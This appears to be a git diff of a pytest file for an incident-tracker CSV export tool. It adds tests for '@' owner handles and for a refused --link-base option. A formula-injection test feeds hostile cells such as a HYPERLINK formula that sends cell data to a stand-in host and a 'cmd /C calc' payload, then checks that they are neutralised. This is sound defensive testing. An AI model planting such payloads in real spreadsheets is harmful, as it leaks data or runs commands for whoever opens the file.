@@ -121,6 +121,33 @@ def test_an_owner_that_is_a_login_is_the_assignee(repo: Path) -> None:
     assert json.loads(result.stdout.splitlines()[0])["assignees"] == ["ravi-menon"]
 
 
+@pytest.mark.parametrize(("fmt", "column"), [("jira-csv", 3), ("linear-csv", 3)])
+def test_an_owner_handle_is_the_assignee_without_its_at(repo: Path, fmt: str, column: int) -> None:
+    """'@dana-okoye' is the handle dana-okoye, as the GitHub export gives it: not a cell the
+    CSV must quote against formulas ('@dana-okoye), which no tracker user is."""
+    path = repo / SEED
+    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @dana-okoye |", 1))
+    rows = list(csv.reader(io.StringIO(_export_of(repo, fmt))))
+    assert [row[column] for row in rows[1:] if "INC-2024-0015 #2" in row[0]] == ["dana-okoye"]
+
+
+def _export_of(repo: Path, fmt: str) -> str:
+    result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
+    assert result.exit_code == 0, result.stderr
+    return result.stdout
+
+
+def test_the_owner_filter_finds_an_owner_written_as_a_handle(repo: Path) -> None:
+    path = repo / SEED
+    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @dana-okoye |", 1))
+    for asked in ("dana-okoye", "@dana-okoye", "Dana-Okoye"):
+        result = run_cli("actions", str(repo), "--owner", asked, "--format", "json", *TODAY)
+        items = json.loads(result.stdout)["items"]
+        assert [(i["incident"], i["number"], i["owner"]) for i in items] == [
+            ("INC-2024-0015", "2", "@dana-okoye")
+        ], asked
+
+
 def test_an_owner_that_is_no_login_is_no_assignee(repo: Path) -> None:
     path = repo / SEED
     path.write_text(path.read_text("utf-8").replace("| platform-team |", "| Platform Team |"))
@@ -281,6 +308,24 @@ def test_the_link_back_points_at_the_item_line() -> None:
     )
 
 
+@pytest.mark.parametrize("teams", ["--repo", "--org"])
+def test_a_link_base_with_several_teams_is_refused(tmp_path: Path, teams: str) -> None:
+    """Each team's files have their own address (org.yaml's url): one --link-base cannot
+    be all of them, and was dropped without a word."""
+    shutil.copytree(SAMPLE_REPO, tmp_path / "payments", ignore=shutil.ignore_patterns(".pmrepo_*"))
+    (tmp_path / "org.yaml").write_text("teams:\n  - name: payments\n    repo: payments\n")
+    where = str(tmp_path / ("payments" if teams == "--repo" else "org.yaml"))
+    result = run_cli(
+        *("actions", teams, where, "--format", "jira-csv", *TODAY),
+        *("--link-base", "https://git.example.com/pm/blob/main"),
+    )
+    assert (result.exit_code, result.stdout) == (2, "")
+    assert result.stderr == (
+        "pmrepo: error: --link-base is the address of one repository's files: with --repo or "
+        "--org, give each team's as its url in an org.yaml (see README: many repositories)\n"
+    )
+
+
 def test_two_teams_with_the_same_incident_ids_share_one_tracker(tmp_path: Path) -> None:
     """An org-wide export's keys carry the team; a one-repository export's do not."""
     for team in ("payments", "platform"):
@@ -360,7 +405,7 @@ def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> 
     path = repo / SEED
     text = path.read_text("utf-8").replace(
         "| 2 | Add latency check to canary analysis (>50% regression = block) | platform-team |",
-        '| 2 | =HYPERLINK("http://x.example/?"&A1,"canary") | @platform-team |',
+        '| 2 | =HYPERLINK("http://x.example/?"&A1,"canary") | @=1+1 |',
     )
     text = text.replace("| 3 | Build perf test stage", "| 3 | -2+3+cmd /C calc perf stage")
     path.write_text(text.replace("| 5 | Add connection pool", "| 5 | \tAdd connection pool"))
@@ -370,7 +415,7 @@ def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> 
     cells = [value for row in rows[1:] for value in row]
     assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert '\'=HYPERLINK("http://x.example/?"&A1,"canary") (INC-2024-0015 #2)' in cells
-    assert "'@platform-team" in cells
+    assert "'=1+1" in cells  # the owner's handle, without its @, is neutralised too
     assert "'-2+3+cmd /C calc perf stage" in "\n".join(cells)
 
 
